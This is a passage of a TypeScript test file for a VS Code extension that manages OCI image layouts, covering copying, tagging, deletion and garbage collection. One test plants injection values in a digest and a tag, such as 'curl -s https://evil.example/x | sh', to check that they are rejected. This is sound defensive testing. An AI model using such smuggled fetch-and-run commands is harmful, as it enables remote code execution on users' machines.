// The Image Layouts view over layouts in the workspace, and copying from a layout into a registry with referrers.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { shortDigest } from '../../../src/core/oci';
import { LayoutTarget } from '../../../src/core/layout/LayoutTarget';
import { counted } from '../../../src/core/oci/counted';
import { MediaType } from '../../../src/core/oci/mediaTypes';
import { digestOf } from '../../../src/core/content/hashing';
import { OciError } from '../../../src/core/oci/errors';
import { listReferrers } from '../../../src/core/graph/referrers';
import type { StowageTestApi as StowageApi } from '../../../src/vscode/testApi';
import type { LayoutNode, RegistryNode } from '../../../src/vscode/tree/nodes';
import { startRegistry, type TestRegistry } from '../../fixtures/registry';
import { ScriptedPrompts } from './helpers/ScriptedPrompts';
import { pushBinaryArtifact, pushTextArtifact, registryTarget } from './helpers/seed';
import { answering, child, children, label, labels, setRegistries, stowageApi, waitFor } from './helpers/stowage';

function workspaceRoot(): string {
  const folder = vscode.workspace.workspaceFolders?.[0];
  assert.ok(folder, 'the tests need a workspace folder');
  return folder.uri.fsPath;
}

describe('Image Layouts view', function () {
  this.timeout(120_000);
  let api: StowageApi;
  let registry: TestRegistry | undefined;
  const made: string[] = [];

  before(async () => {
    api = await stowageApi();
  });

  after(async () => {
    await setRegistries([]);
    await registry?.stop();
    for (const dir of made) fs.rmSync(dir, { recursive: true, force: true });
  });

  // Found through the workspace file watcher alone, whose events can take a while on a busy machine.
  async function layoutNode(folder: string): Promise<LayoutNode> {
    return waitFor(
      `layout ${folder} in the view`,
      async () =>
        (await children(api.layouts)).find((n): n is LayoutNode => n.type === 'layout' && n.store.path === folder),
      60_000,
    );
  }

  it('New Layout… creates a layout in the workspace and the file watcher shows it', async () => {
    const prompts = new ScriptedPrompts().thenFolder(workspaceRoot()).thenInput('made-by-command');
    const folder = await answering(api, prompts, () => vscode.commands.executeCommand<string>('stowage.layout.new'));
    made.push(folder);
    assert.equal(folder, path.join(workspaceRoot(), 'made-by-command'));
    assert.deepEqual(JSON.parse(fs.readFileSync(path.join(folder, 'oci-layout'), 'utf8')), {
      imageLayoutVersion: '1.0.0',
    });
    // At the workspace root the row is its name alone (the full path was cut off and repeated it); the hover has it.
    const item = api.layouts.getTreeItem(await layoutNode(folder));
    assert.deepEqual([item.label, item.description], ['made-by-command', undefined]);
    assert.equal(item.tooltip, `OCI image layout\n${folder}`);
  });

  it('a layout shows refs, a manifest’s layers and its referrers grouped by kind; Copy To… with referrers brings them into a registry', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'demo');
    made.push(path.dirname(folder));
    const layout = await LayoutTarget.open(folder, { create: true });
    const subject = await pushTextArtifact(layout, { 'app.conf': 'port=8080\n' }, { tag: 'v1' });
    await pushTextArtifact(
      layout,
      { 'sig.jws': '{"payload":"x"}' },
      { artifactType: MediaType.notarySignature, subject: subject.descriptor },
    );
    await pushTextArtifact(
      layout,
      { 'sbom.json': '{"bomFormat":"CycloneDX"}' },
      { artifactType: MediaType.cyclonedx, subject: subject.descriptor },
    );

    const node = await layoutNode(folder);
    assert.equal(api.layouts.getTreeItem(node).description, 'layouts', 'a nested layout says which folder holds it');
    const refs = await labels(api.layouts, node);
    assert.equal(refs[0], 'v1', JSON.stringify(refs));
    // The layout was written just now: its folder's watcher may refresh the view while v1 is read (an expansion cut
    // short by a refresh lists nothing), so the rows are awaited, each time from the view as it is.
    let v1 = await child(api.layouts, node, 'v1');
    const found = await listReferrers(layout, subject.descriptor.digest);
    const rows = await waitFor(`v1's layers and referrers (${JSON.stringify(found)})`, async () => {
      v1 = await child(api.layouts, await layoutNode(folder), 'v1');
      const shown = await labels(api.layouts, v1);
      return shown.length > 0 && shown;
    });
    assert.deepEqual(rows, ['config', 'app.conf', 'Signatures', 'SBOMs'], JSON.stringify(found));

    registry = await startRegistry({ variant: 'plain' });
    await setRegistries([{ host: registry.host, plainHttp: true }]);
    const copying = new ScriptedPrompts();
    const digest = await answering(api, copying, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.copyTo', v1, {
        destination: { kind: 'registry', host: registry!.host, repository: 'copied/demo' },
        tag: 'v1',
        referrers: true,
      }),
    );
    assert.equal(digest, subject.descriptor.digest);
    assert.equal(
      copying.notifications.at(-1)?.message,
      `Copied oci:layouts/demo:v1 with 1 signature and 1 SBOM to ${registry.host}/copied/demo:v1 (${shortDigest(digest, { withAlgorithm: true })}).`,
      'a promotion says that the signature and the SBOM followed',
    );
    // Copied again, referrers asked for, from the copy's SBOM (which has none): said too.
    const sbomRow = (await children(api.layouts, await child(api.layouts, v1, 'SBOMs')))[0]!;
    const again = new ScriptedPrompts();
    await answering(api, again, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.copyTo', sbomRow, {
        destination: { kind: 'registry', host: registry!.host, repository: 'copied/sbom' },
        tag: 'sbom',
        referrers: true,
      }),
    );
    assert.match(again.notifications.at(-1)?.message ?? '', /; it has no referrers\.$/);

    const root = await waitFor('the registry in the view', async () =>
      (await children(api.registries)).find(
        (n): n is RegistryNode => n.type === 'registry' && n.setting.host === registry!.host,
      ),
    );
    const repository = await child(api.registries, root, 'copied/demo');
    const copied = await child(api.registries, repository, 'v1');
    assert.deepEqual(await labels(api.registries, copied), ['config', 'app.conf', 'Signatures', 'SBOMs']);
    const signatures = await child(api.registries, copied, 'Signatures');
    assert.equal((await children(api.registries, signatures)).length, 1);
    const sboms = await child(api.registries, copied, 'SBOMs');
    for (const [group, text] of [
      [signatures, '1 signature referring to'],
      [sboms, '1 SBOM referring to'],
    ] as const)
      assert.equal(String(api.registries.getTreeItem(group).tooltip).startsWith(text), true, text);
  });

  it('Copy To… from the palette asks for the artifact, the destination, the tag and whether to include referrers', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'palette');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'p.txt': 'palette' }, { tag: 'p1' });
    const target = path.join(workspaceRoot(), 'layouts', 'palette-copy');
    made.push(target);
    const prompts = new ScriptedPrompts()
      .thenInput(`oci:${folder}:p1`)
      .thenPick('Layout folder…')
      .thenFolder(target)
      .thenInput('copied')
      .thenPick('Only the artifact');
    const digest = await answering(api, prompts, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.copyTo'),
    );
    assert.equal(digest, seeded.descriptor.digest);
    assert.equal(
      prompts.notifications.at(-1)?.message,
      `Copied oci:layouts/palette:p1 to oci:layouts/palette-copy:copied (${shortDigest(digest, { withAlgorithm: true })}).`,
    );
    // The notification is read at a glance; the log, the record of what was written where, keeps the whole path.
    const logFile = path.join(api.logUri.fsPath, 'Stowage.log');
    await waitFor(
      'the copy in the Stowage log with the whole path',
      () =>
        fs.existsSync(logFile) &&
        fs.readFileSync(logFile, 'utf8').includes(`Copied ${digest} to oci:${target}:copied (`),
    );
    // The total shows once the destination is known (a typed one might have named the tag).
    assert.deepEqual(prompts.stepsShown, ['1', '2', '', '3/4', '4/4'], 'each question says where it stands');
    const copy = await LayoutTarget.open(target);
    assert.equal((await copy.resolve('copied')).digest, seeded.descriptor.digest);
  });
  it('Copy To… from the palette takes a layout typed without a tag as the one artifact it holds; holding two tags, the reference is refused naming them', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'bare');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'b.txt': 'bare' }, { tag: 'only' });
    const target = path.join(workspaceRoot(), 'layouts', 'bare-copy');
    made.push(target);
    const prompts = new ScriptedPrompts()
      .thenInput(`oci:${folder}`)
      .thenPick('Layout folder…')
      .thenFolder(target)
      .thenKeep('input')
      .thenPick('Only the artifact');
    const digest = await answering(api, prompts, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.copyTo'),
    );
    assert.equal(digest, seeded.descriptor.digest);
    assert.equal(prompts.asked[0]!.validate && (await prompts.asked[0]!.validate(`oci:${folder}`)), undefined);
    assert.equal(prompts.asked[3]!.value, 'only', 'its tag is the tag offered at the destination');
    assert.equal((await (await LayoutTarget.open(target)).resolve('only')).digest, seeded.descriptor.digest);

    await layout.tag(seeded.descriptor, 'latest');
    assert.equal(
      await prompts.asked[0]!.validate!(`oci:${folder}`),
      'Name a tag or a digest: it holds 2 tags (only, latest)',
    );
  });
  it('Copy To… numbers its questions as the answers decide them (a typed reference with a tag asks no tag), Back keeps the answers, Escape copies nothing', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'steps');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 's.txt': 'steps' }, { tag: 's1' });
    const target = path.join(workspaceRoot(), 'layouts', 'steps-copy');
    made.push(target);
    const prompts = new ScriptedPrompts()
      .thenInput(`oci:${folder}:s1`)
      .thenPick('Layout folder…')
      .thenFolder(target)
      .thenInput('kept')
      .thenBack('pick')
      .thenBack('input')
      .thenPick('Other registry or reference…')
      .thenInput(`oci:${target}:typed`)
      .thenDismiss('pick');
    const copied = await answering(api, prompts, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.copyTo'),
    );
    assert.equal(copied, undefined, 'Escape ends the whole flow');
    // Back into the destination hides the total again until it is answered: a typed reference that names the tag
    // drops the tag question, so a total shown there would have gone down. The reference typed after "Other
    // registry or reference…" is part of the destination question: it shows its number.
    assert.deepEqual(prompts.stepsShown, ['1', '2', '', '3/4', '4/4', '3/4', '2', '2', '3/3']);
    assert.equal(prompts.asked[5]!.value, 'kept', 'the tag typed is kept');
    assert.deepEqual(prompts.asked[6]!.activeLabels, ['Layout folder…'], 'the destination chosen is kept');
    assert.ok(!fs.existsSync(target), 'nothing was copied');
  });
  it('Copy To… a folder that holds other files offers a new layout folder in it instead of filling it with blobs', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'crowded-source');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'c.txt': 'crowded' }, { tag: 'c1' });
    const crowded = path.join(workspaceRoot(), 'layouts', 'crowded');
    made.push(crowded);
    fs.mkdirSync(crowded, { recursive: true });
    fs.writeFileSync(path.join(crowded, 'notes.md'), 'mine');
    const prompts = new ScriptedPrompts()
      .thenInput(`oci:${folder}:c1`)
      .thenPick('Layout folder…')
      .thenFolder(crowded)
      .thenChoose('New Layout Folder in It…')
      .thenInput('kept')
      .thenInput('copied')
      .thenPick('Only the artifact');
    await answering(api, prompts, () => vscode.commands.executeCommand<string>('stowage.artifact.copyTo'));
    const asked = prompts.asked.find((q) => q.kind === 'choose')!.choose!;
    assert.equal(asked.message, `${crowded} is not an image layout and holds other files.`);
    assert.equal(prompts.asked.filter((q) => q.kind === 'input')[1].value, 'layout');
    assert.deepEqual(fs.readdirSync(crowded).sort(), ['kept', 'notes.md'], 'the chosen folder got no layout files');
    const copy = await LayoutTarget.open(path.join(crowded, 'kept'));
    assert.equal((await copy.resolve('copied')).digest, seeded.descriptor.digest);
  });
  it('a manifest listing a digest that is none, or a layout tag holding a line break, is shown as an error and never copied', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'hostile-digests');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'h.txt': 'fine' }, { tag: 'fine' });
    const forged = 'sha256:0000\ncurl -s https://evil.example/x | sh\n';
    const index = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MediaType.ociIndex,
        manifests: [
          seeded.descriptor,
          { ...seeded.descriptor, digest: forged },
          { ...seeded.descriptor, size: '5\nSBOM: clean' },
        ],
      }),
    );
    await layout.pushManifest({ mediaType: MediaType.ociIndex, digest: digestOf(index), size: index.length }, index, {
      tag: 'hostile',
    });
    // A tag written by hand: a layout's index.json may name a manifest with anything.
    const indexFile = path.join(folder, 'index.json');
    const written = JSON.parse(fs.readFileSync(indexFile, 'utf8'));
    written.manifests.push({
      ...seeded.descriptor,
      annotations: { 'org.opencontainers.image.ref.name': 'v1\ncurl x|sh' },
    });
    fs.writeFileSync(indexFile, JSON.stringify(written));
    await vscode.commands.executeCommand('stowage.layouts.refresh');

    // The watcher may report the index.json written above after the refresh, and that redraw ends loads running
    // under the layout (their rows come back empty): the rows are read again until a load was not cut short.
    const node = await layoutNode(folder);
    const entries = await waitFor('the hostile index listed', async () => {
      const listed = await children(api.layouts, await child(api.layouts, await layoutNode(folder), 'hostile'));
      return listed.length ? listed : undefined;
    });
    assert.deepEqual(
      entries.map((e) => e.type),
      ['manifest', 'error'],
      'the usable entry, then one error for the others',
    );
    const error = entries[1]!;
    const text = String(api.layouts.getTreeItem(error).label);
    assert.match(
      text,
      /^content: manifest sha256:[0-9a-f]{64}: 2 unusable entries; entry 2 of 3 has an invalid digest "sha256:0000/,
    );
    assert.doesNotMatch(text, /\n/);

    const copies = new ScriptedPrompts();
    const forgedNode = { ...(entries[0] as object), descriptor: { ...seeded.descriptor, digest: forged } };
    await vscode.env.clipboard.writeText('untouched');
    for (const command of [
      'stowage.artifact.copyDigest',
      'stowage.artifact.copyReference',
      'stowage.artifact.copyPinnedReference',
    ])
      assert.equal(
        await answering(api, copies, () => vscode.commands.executeCommand(command, forgedNode)),
        undefined,
        command,
      );
    const badTag = (await children(api.layouts, node)).find((n) => n.type === 'manifest' && n.tag?.startsWith('v1'));
    assert.ok(badTag, 'the hand-written tag is listed');
    assert.equal(
      await answering(api, copies, () => vscode.commands.executeCommand('stowage.artifact.copyReference', badTag)),
      undefined,
    );
    assert.equal(await vscode.env.clipboard.readText(), 'untouched', 'nothing reached the clipboard');
    assert.equal(copies.notifications.length, 4, JSON.stringify(copies.notifications));
    for (const n of copies.notifications) assert.match(n.message, /failed: .*(is invalid|Not copied)/);
  });

  it('Push, Copy To and Add Tag ask for the tag alike: a default where one exists, problems as sentences', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'tags');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 'a.txt': 'a' }, { tag: 'v1' });
    const v1 = await child(api.layouts, await layoutNode(folder), 'v1');
    const store = { kind: 'layout', path: folder };
    const file = path.join(folder, 'oci-layout');

    const push = new ScriptedPrompts().thenInput('latest').thenPick('Other…').thenInput(undefined);
    await answering(api, push, () =>
      vscode.commands.executeCommand('stowage.artifact.push', vscode.Uri.file(file), undefined, { destination: store }),
    );
    const copy = new ScriptedPrompts().thenInput(undefined);
    await answering(api, copy, () =>
      vscode.commands.executeCommand('stowage.artifact.copyTo', v1, { destination: store }),
    );
    const tagging = new ScriptedPrompts().thenInput(undefined);
    await answering(api, tagging, () => vscode.commands.executeCommand('stowage.artifact.addTag', v1));

    const [pushTag, copyTag, newTag] = [push, copy, tagging].map((p) => p.asked.find((q) => q.kind === 'input')!);
    assert.deepEqual(
      [pushTag, copyTag, newTag].map((q) => [q!.prompt, q!.value]),
      [
        ['Tag in oci:layouts/tags', 'latest'],
        ['Tag at the destination', 'v1'],
        ['New tag (v1 stays)', undefined],
      ],
    );
    for (const question of [pushTag, copyTag, newTag]) {
      assert.equal(question!.placeHolder, pushTag!.placeHolder);
      assert.match((await question!.validate!(''))!, /^Type a tag: letters, digits/);
      assert.match((await question!.validate!('-x'))!, /^The tag "-x" must start with a letter/);
      assert.equal(await question!.validate!('v2'), undefined);
    }
    assert.match((await newTag!.validate!('v1'))!, /^The artifact is already tagged v1/);
  });

  it('palette artifact commands offer the artifacts selected in the views above "Type a reference…", which still works', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'selected');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 's.txt': 'selected' }, { tag: 's1' });
    const node = await layoutNode(folder);
    const s1 = await child(api.layouts, node, 's1');
    const selection = api.useSelection([node, s1]);
    try {
      const picking = new ScriptedPrompts().thenPick('s1');
      const digest = await answering(api, picking, () =>
        vscode.commands.executeCommand<string>('stowage.artifact.copyDigest'),
      );
      assert.equal(digest, seeded.descriptor.digest);
      const offered = picking.asked[0]!.items!;
      assert.deepEqual(
        offered.map((i) => i.label),
        ['s1', 'Type a reference…'],
        'the selected artifact (not the layout), then the typed way',
      );
      assert.equal(offered[0]!.description, `oci:${folder}`);

      const typing = new ScriptedPrompts().thenPick('Type a reference…').thenInput(`oci:${folder}:s1`);
      assert.equal(
        await answering(api, typing, () => vscode.commands.executeCommand<string>('stowage.artifact.copyDigest')),
        seeded.descriptor.digest,
      );
    } finally {
      selection.dispose();
    }
  });

  it('Delete… and Verify Signatures… from the palette: Back from the typed reference goes to the selected artifacts, "Type a reference…" kept highlighted', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'back-to-selected');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 'b.txt': 'back' }, { tag: 'b1' });
    const b1 = await child(api.layouts, await layoutNode(folder), 'b1');
    const selection = api.useSelection([b1]);
    const trust = vscode.workspace.getConfiguration('stowage');
    // Verify asks for the artifact only once something is trusted (the file is not read before the artifact is named).
    await trust.update('trust.certificates', [path.join(folder, 'trusted.pem')], vscode.ConfigurationTarget.Global);
    try {
      for (const command of ['stowage.artifact.delete', 'stowage.artifact.verify']) {
        const prompts = new ScriptedPrompts().thenPick('Type a reference…').thenBack('input').thenDismiss('pick');
        await answering(api, prompts, () => vscode.commands.executeCommand(command));
        assert.deepEqual(
          prompts.asked.map((q) => `${q.kind}:${q.step?.back ? 'back' : ''}`),
          ['pick:', 'input:back', 'pick:'],
          `${command}: the typed reference offers Back, the list does not`,
        );
        assert.deepEqual(prompts.stepsShown, ['', 'back', ''], `${command}: one question is not numbered "(1/1)"`);
        assert.deepEqual(prompts.asked[2]!.activeLabels, ['Type a reference…'], `${command}: the choice is kept`);
      }
      assert.deepEqual(await labels(api.layouts, await layoutNode(folder)), ['b1'], 'nothing was deleted');
    } finally {
      selection.dispose();
      await trust.update('trust.certificates', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  it('Copy Reference and Remove Tag… run from the palette ask for the artifact (a selected tag, or a typed reference), as every context-menu command does', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'palette-tags');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 'p.txt': 'palette' }, { tag: 'p1' });
    await pushTextArtifact(layout, { 'p.txt': 'palette' }, { tag: 'p2' });
    const p1 = await child(api.layouts, await layoutNode(folder), 'p1');
    const selection = api.useSelection([p1]);
    try {
      const copying = new ScriptedPrompts().thenPick('p1');
      const copied = await answering(api, copying, () =>
        vscode.commands.executeCommand<string>('stowage.artifact.copyReference'),
      );
      assert.equal(copied, `oci:${folder}:p1`);
      assert.equal(await vscode.env.clipboard.readText(), `oci:${folder}:p1`);
      assert.equal(copying.asked[0]!.title, 'Copy Reference');

      const removing = new ScriptedPrompts().thenPick('p1').thenConfirm(true);
      assert.equal(
        await answering(api, removing, () => vscode.commands.executeCommand<string>('stowage.artifact.removeTag')),
        'p1',
      );
    } finally {
      selection.dispose();
    }
    const typed = new ScriptedPrompts().thenInput(`oci:${folder}:p2`).thenConfirm(true);
    assert.equal(
      await answering(api, typed, () => vscode.commands.executeCommand<string>('stowage.artifact.removeTag')),
      'p2',
    );
    const left: string[] = [];
    for await (const page of (await LayoutTarget.open(folder)).listTags()) left.push(...page);
    assert.deepEqual(left, [], 'both tags removed');
  });

  it('Pull Artifact… of an image whose layers have no file names says so before asking for a folder, and offers Copy To…', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'untitled');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushBinaryArtifact(layout, undefined, Buffer.from('a layer of an image'), 'v1');
    const target = path.join(workspaceRoot(), 'layouts', 'untitled-kept');
    made.push(target);
    const prompts = new ScriptedPrompts()
      .thenInput(`oci:${folder}:v1`)
      .pressingInNotifications('Copy To…')
      .thenPick('Layout folder…')
      .thenFolder(target)
      .thenInput('kept')
      .thenPick('Only the artifact');
    const outcome = await answering(api, prompts, () => vscode.commands.executeCommand('stowage.artifact.pull'));
    assert.equal(outcome, undefined);
    const told = prompts.notifications.find((n) => n.message.startsWith('Nothing to pull'));
    assert.match(told?.message ?? '', /has no layers with a file name \(org\.opencontainers\.image\.title\)/);
    assert.deepEqual(told?.actions, ['Copy To…']);
    assert.equal(
      prompts.asked.filter((q) => q.kind === 'openDialog').length,
      1,
      'one folder asked: the layout to copy into, none to pull into',
    );
    const kept = await LayoutTarget.open(target);
    assert.equal((await kept.resolve('kept')).digest, seeded.descriptor.digest);
  });
  it('Remove Tag… on a layout tag removes that tag only: the manifest stays under its other tag', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'untag');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'u.txt': 'untag' }, { tag: 'v1' });
    await layout.tag(seeded.descriptor, 'copy');
    const node = await layoutNode(folder);
    const copy = await waitFor('the second tag in the view', async () =>
      (await children(api.layouts, node)).find((n) => label(api.layouts, n) === 'copy'),
    );
    const prompts = new ScriptedPrompts().thenConfirm(true);
    const removed = await answering(api, prompts, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.removeTag', copy),
    );
    assert.equal(removed, 'copy');
    const modal = prompts.asked.find((q) => q.kind === 'confirm')!.confirm!;
    assert.match(modal.message, /^Remove the tag copy from /);
    assert.equal(modal.action, 'Remove Tag');
    assert.match(prompts.notifications.at(-1)?.message ?? '', /^Removed the tag copy from .*; the manifest stays\.$/);
    assert.equal((await layout.resolve('v1')).digest, seeded.descriptor.digest, 'the manifest stays under v1');
    await assert.rejects(layout.resolve('copy'), (e: unknown) => OciError.is(e, 'NOT_FOUND'));
    await waitFor('the tag gone from the view', async () => !(await labels(api.layouts, node)).includes('copy'));
  });

  it('Remove Tag… on several selected tags of a layout asks once naming them and removes every one (not only the row clicked)', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'untag-many');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 'm.txt': 'many' }, { tag: 'keep' });
    for (const tag of ['old-1', 'old-2']) await layout.tag(seeded.descriptor, tag);
    const node = await layoutNode(folder);
    const rows = await waitFor('the three tags in the view', async () => {
      const shown = await children(api.layouts, node);
      const old = shown.filter((n) => label(api.layouts, n).startsWith('old-'));
      return old.length === 2 && old;
    });
    const prompts = new ScriptedPrompts().thenConfirm(true);
    await answering(api, prompts, () =>
      vscode.commands.executeCommand<string>('stowage.artifact.removeTag', rows[1], rows),
    );
    const asked = prompts.asked.filter((q) => q.kind === 'confirm');
    assert.equal(asked.length, 1, 'one confirmation for the selection');
    assert.match(asked[0]!.confirm!.message, /^Remove 2 tags from /);
    assert.match(asked[0]!.confirm!.detail ?? '', /^old-1, old-2\n/);
    for (const tag of ['old-1', 'old-2'])
      await assert.rejects(layout.resolve(tag), (e: unknown) => OciError.is(e, 'NOT_FOUND'), tag);
    assert.equal((await layout.resolve('keep')).digest, seeded.descriptor.digest, 'the tag not selected stays');
    await waitFor('the tags gone from the view', async () =>
      (await labels(api.layouts, node)).every((l) => !l.startsWith('old-')),
    );
  });

  it('Delete… from the palette on a layout offers "Delete with 1 Referrer" and removes the artifact, its referrer and the fallback tag', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'delete');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const subject = await pushTextArtifact(layout, { 'a.txt': 'a' }, { tag: 'v1' });
    const sbom = await pushTextArtifact(
      layout,
      { 'sbom.json': '{"bomFormat":"CycloneDX"}' },
      { artifactType: MediaType.cyclonedx, subject: subject.descriptor },
    );
    const prompts = new ScriptedPrompts().thenInput(`oci:${folder}:v1`).thenChoose('Delete with 1 Referrer');
    assert.equal(
      await answering(api, prompts, () => vscode.commands.executeCommand<boolean>('stowage.artifact.delete')),
      true,
    );
    assert.match(
      prompts.asked.find((q) => q.kind === 'choose')!.choose!.detail ?? '',
      /Blobs stay in the layout until garbage collection/,
    );
    assert.equal(await layout.exists(subject.descriptor), false);
    assert.equal(await layout.exists(sbom.descriptor), false);
    assert.match(
      prompts.notifications.at(-1)?.message ?? '',
      new RegExp(`^Deleted ${subject.descriptor.digest} and 1 referrer from oci:.*delete\\.$`),
    );
    const tags: string[] = [];
    for await (const page of layout.listTags()) tags.push(...page);
    assert.deepEqual(tags, [], 'neither v1 nor the fallback tag of the referrers index is left');
  });
  it('Copy To… a typed reference on a TLS registry on this machine that is not configured speaks TLS to it: its certificate is what is missing, not "speaks HTTPS"', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'typed-tls');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 't.txt': 'typed over TLS' }, { tag: 't1' });
    const secured = await startRegistry({ variant: 'basic-tls' });
    try {
      await setRegistries([]);
      const prompts = new ScriptedPrompts()
        .thenInput(`oci:${folder}:t1`)
        .thenPick('Other registry or reference…')
        .thenInput(`${secured.host}/typed/app:copied`)
        .thenPick('Only the artifact');
      const failed = await answering(api, prompts, () =>
        vscode.commands.executeCommand<string>('stowage.artifact.copyTo').then(
          () => undefined,
          (error: Error) => error.message,
        ),
      );
      const said = [failed ?? '', ...prompts.notifications.map((n) => n.message)].join('\n');
      assert.match(said, /certificate/i, said);
      assert.doesNotMatch(said, /speaks HTTPS/, said);
    } finally {
      await secured.stop();
    }
  });
  it('Copy To… "Other registry or reference…" copies to a typed reference on a registry that is not configured, then offers to add it', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'typed');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const seeded = await pushTextArtifact(layout, { 't.txt': 'typed' }, { tag: 't1' });
    const elsewhere = await startRegistry({ variant: 'plain' });
    try {
      await setRegistries([]);
      const prompts = new ScriptedPrompts()
        .thenInput(`oci:${folder}:t1`)
        .thenPick('Other registry or reference…')
        .thenInput(`${elsewhere.host}/typed/app:copied`)
        .thenPick('Only the artifact')
        .pressingInNotifications('Add to Registries');
      const digest = await answering(api, prompts, () =>
        vscode.commands.executeCommand<string>('stowage.artifact.copyTo'),
      );
      assert.equal(digest, seeded.descriptor.digest);
      // Checked by the engine's own client, outside the extension.
      const copied = await registryTarget(elsewhere, 'typed/app').fetchManifest('copied');
      assert.equal(copied.descriptor.digest, seeded.descriptor.digest);
      assert.deepEqual(copied.manifest, seeded.manifest);

      const offer = await waitFor('the offer to add the registry', () =>
        prompts.notifications.find((n) => n.actions.includes('Add to Registries')),
      );
      assert.equal(offer.severity, 'info');
      assert.match(
        offer.message,
        /^Copied .* \(sha256:[0-9a-f]{12}\)\. .* is not in the Registries view \(reached over plain HTTP, as this registry on this machine answered\)\.$/,
      );
      assert.equal(prompts.notifications.filter((n) => n.message.startsWith('Copied')).length, 1, 'one notification');
      const added = await waitFor('the registry added to the settings', () =>
        vscode.workspace
          .getConfiguration('stowage')
          .get<{ host: string; plainHttp?: boolean }[]>('registries')
          ?.find((r) => r.host === elsewhere.host),
      );
      assert.equal(added.plainHttp, true);
    } finally {
      await setRegistries([]);
      await elsewhere.stop();
    }
  });
  it('Garbage Collect Layout… shows counts and bytes in a modal, removes nothing when cancelled, and removes unreferenced blobs and stale temporaries when confirmed', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'gc-demo');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    const kept = await pushTextArtifact(layout, { 'kept.txt': 'kept' }, { tag: 'v1' });
    const orphan = await pushTextArtifact(layout, { 'orphan.txt': 'orphan bytes' }, { tag: 'old' });
    await layout.untag('old');
    const hourAgo = new Date(Date.now() - 3600_000);
    const blobsDir = path.join(folder, 'blobs', 'sha256');
    for (const name of fs.readdirSync(blobsDir)) fs.utimesSync(path.join(blobsDir, name), hourAgo, hourAgo);
    const crashed = path.join(folder, 'blobs', '.stowage-999999999-0123456789ab.tmp');
    fs.writeFileSync(crashed, 'half a blob');
    const twoHoursAgo = new Date(Date.now() - 2 * 3600_000);
    fs.utimesSync(crashed, twoHoursAgo, twoHoursAgo);
    const expected = await layout.garbageCollect({ dryRun: true, graceMs: 0 });
    assert.ok(expected.removed.includes(orphan.descriptor.digest));

    // From the layout's context menu: the modal names the counts and bytes; cancelling removes nothing.
    const node = await layoutNode(folder);
    const cancelling = new ScriptedPrompts().thenConfirm(false);
    assert.equal(
      await answering(api, cancelling, () => vscode.commands.executeCommand('stowage.layout.garbageCollect', node)),
      undefined,
    );
    const modal = cancelling.asked.find((q) => q.kind === 'confirm')!.confirm!;
    const items = expected.blobs.length + expected.temporaries.length;
    assert.match(modal.message, new RegExp(`^Remove ${counted(items, 'item')}, ${expected.freedBytes} B from oci:`));
    assert.match(modal.detail ?? '', new RegExp(`${counted(expected.blobs.length, 'blob')} that no tag reaches`));
    assert.match(modal.detail ?? '', /1 temporary item left by interrupted writes: 11 B/);
    assert.ok((await layout.exists(orphan.descriptor)) && fs.existsSync(crashed), 'nothing removed when cancelled');

    // From the palette: a picker of layouts, then the same modal, confirmed.
    const confirming = new ScriptedPrompts().thenPick('gc-demo').thenConfirm(true);
    const removed = await answering(api, confirming, () =>
      vscode.commands.executeCommand<{ removed: string[]; temporaries: unknown[] }>('stowage.layout.garbageCollect'),
    );
    assert.deepEqual(removed.removed.sort(), expected.removed.sort());
    assert.equal(removed.temporaries.length, 1);
    assert.equal(await layout.exists(orphan.descriptor), false);
    assert.equal(fs.existsSync(crashed), false);
    assert.equal((await layout.resolve('v1')).digest, kept.descriptor.digest);
    assert.ok(await layout.exists(kept.descriptor));
    assert.deepEqual(
      confirming.notifications.map((n) => n.message),
      [
